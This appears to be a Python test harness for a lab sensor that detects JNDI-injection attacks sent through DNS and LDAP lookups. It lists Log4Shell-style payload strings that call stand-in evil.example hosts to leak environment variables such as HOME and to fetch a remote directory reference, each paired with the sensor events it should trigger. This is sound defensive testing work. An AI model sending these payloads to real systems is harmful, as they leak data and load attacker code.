#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""names.py SENSOR CLASSES: attacks that go through the name service: a JDK asks dnsmasq for names that carry data out, and
finds its way to a directory by one.
"""
import sys

import lab

def asked(name):
    """The question in the JDK's own shape, straight to the payload's server: no other one is a callback."""
    return {"stage": "callback", "rrname": name}


ATTACKS = [
    ("${jndi:dns://%s/${env:NOBODY_SETS_IT:-x}.text.evil.example}" % lab.ATTACKER, None,
     [lab.lookup_of("dns://%s/x.text.evil.example" % lab.ATTACKER, scheme="dns", port=53), asked("x.text.evil.example")]),
    # the victim's own name goes out, as part of the name that it asks for
    ("${jndi:ldap://${env:HOME}.evil.example:1389/a}", None,
     [{"stage": "lookup", "scheme": "ldap", "port": 1389, "exfil": ["env:HOME"]}]),
    ("${jndi:ldap://host.evil.example:1389/cn=remote,dc=lab}", None,
     [lab.lookup_of("ldap://host.evil.example:1389/cn=remote,dc=lab"), lab.searched("cn=remote,dc=lab"), lab.reference(), lab.FETCHED]),
    ("lookup dns://%s/a{b}.evil.example" % lab.ATTACKER, "failed javax.naming",
     [{"stage": "other", "location": "dns.rrname", "rrname": "a{b}.evil.example"}]),
]


def main():
    program, classes = sys.argv[1:3]
    lab.enter("curl", "slapd", "slapadd", "openssl", "dnsmasq")
    lab.need_java()
    lab.build_network()
    peers = lab.Peers(classes, names=True)
    sensor = lab.Sensor(program, "workers: 1")
    lab.play(sensor, peers.victim, ATTACKS)
    sensor.stop()


if __name__ == "__main__":
    main()
